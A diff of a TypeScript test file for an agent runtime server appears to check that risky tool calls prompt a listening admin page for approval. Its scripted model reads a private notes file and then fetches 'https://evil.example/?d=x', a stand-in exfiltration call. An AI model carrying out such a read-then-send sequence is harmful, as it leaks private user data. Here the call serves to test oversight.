@@ -1,7 +1,10 @@
+import { writeFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { AccessTokens } from "../../control/access/access-tokens.ts";
 import { installationToken } from "../../control/access/installation-token.ts";
-import { openEngine } from "../../testing/engine-fixture.ts";
+import type { Script } from "../../models/scripted/scripted-model.ts";
+import { ofType, openEngine, testProfile } from "../../testing/engine-fixture.ts";
+import { until } from "../../testing/until.ts";
 import { serveRuntime } from "./serve-runtime.ts";
 
 const initialize = {
@@ -58,6 +61,58 @@ describe("serveRuntime", () => {
     await server.close(2000);
     await ending;
     await expect(call("/api/v1/health")).rejects.toThrow();
+  });
+});
+
+describe("a page that listens to events", () => {
+  const fetched: Script = ({ caller }) => {
+    if (caller.turn > 2) return "done";
+    const [read, visit] = [
+      { tool: "read_file", input: { path: "notes.md" } },
+      { tool: "web_fetch", input: { url: "https://evil.example/?d=x" } },
+    ];
+    return { calls: [caller.turn === 1 ? read : visit] };
+  };
+
+  it("attends for a person who may answer, until it is closed", async () => {
+    const profiles = [testProfile("agent", { tools: ["read_file", "web_fetch"] })];
+    await using engine = await openEngine({
+      ...{ model: fetched, profiles, limits: { askDeadlineMs: 30 } },
+    });
+    const { workspace } = engine;
+    writeFileSync(`${workspace}/notes.md`, "private");
+    const file = `${engine.home}/tokens`;
+    const own = installationToken(file);
+    const tokens = new AccessTokens(engine.store, file);
+    const server = await serveRuntime({
+      host: { runtime: engine, tokens, workspaces: [workspace], startedAt: Date.now() },
+      port: 0,
+    });
+    const admin = { id: "local", role: "admin" } as const;
+    const { token: viewer } = await tokens.create({ name: "board", role: "viewer" }, admin);
+    const questions = async () => {
+      const { events } = await engine.run({ task: "go", profile: "agent", workspace });
+      return ofType(events, "agent.asked").length;
+    };
+    const listen = async (headers: Record<string, string>) => {
+      const control = new AbortController();
+      const { signal } = control;
+      const stream = await fetch(`${server.url}/api/v1/events`, { headers, signal });
+      expect(stream.status).toBe(200);
+      return control;
+    };
+    const pageOf = async (token: string) => {
+      const session = (await server.pages.exchange(server.pages.createCode(token).code)) ?? "";
+      return listen({ cookie: `mandate-page-${server.port}=${session}`, origin: server.url });
+    };
+    await listen({ authorization: `Bearer ${own}` });
+    await pageOf(viewer);
+    expect(await questions()).toBe(0);
+    const page = await pageOf(own);
+    expect(await questions()).toBe(1);
+    page.abort();
+    await until("the page is gone", async () => (await questions()) === 0);
+    await server.close(100);
   });
 });
 
